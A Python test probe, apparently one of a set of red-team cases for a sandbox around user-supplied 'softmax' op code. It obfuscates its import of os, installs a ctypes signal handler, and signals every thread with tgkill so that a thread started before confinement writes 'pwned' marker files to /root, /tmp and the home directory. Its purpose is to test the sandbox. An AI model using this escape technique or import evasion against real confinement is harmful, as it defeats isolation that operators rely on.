"""Round 2, class 3: installs a C-level signal handler through ctypes and aims it with tgkill at
every thread of its process (an OpenBLAS thread that predates the confinement, in the report): the
handler tries to write outside the sandbox. Reports the thread count it found at import time."""
import ctypes
import operator
import typing

OP = "softmax"
os = operator.attrgetter("modules")(typing.sys)["os"]
libc = ctypes.CDLL(None, use_errno=True)
THREADS_AT_IMPORT = len(os.listdir("/proc/self/task"))
TARGETS = ("/root/uhop_pwned.txt", "/tmp/uhop_r2_pwned.txt", os.path.expanduser("~/uhop_pwned.txt"))
WROTE = []


@ctypes.CFUNCTYPE(None, ctypes.c_int)
def handler(sig):
    for p in TARGETS:
        try:
            with open(p, "w") as f:
                f.write("pwned")
            WROTE.append(p)
        except OSError:
            pass


class SigAction(ctypes.Structure):
    _fields_ = [("handler", ctypes.c_void_p), ("flags", ctypes.c_ulong), ("restorer", ctypes.c_void_p),
                ("mask", ctypes.c_uint64)]


def run(x):
    act = SigAction(ctypes.cast(handler, ctypes.c_void_p).value, 0x04000000, None, 0)  # SA_RESTORER unset
    libc.sigaction(10, ctypes.byref(act), None)  # SIGUSR1
    for tid in os.listdir("/proc/self/task"):
        libc.syscall(234, os.getpid(), int(tid), 10)  # tgkill
    raise RuntimeError(f"threads_at_import={THREADS_AT_IMPORT} wrote=[{','.join(WROTE)}]")
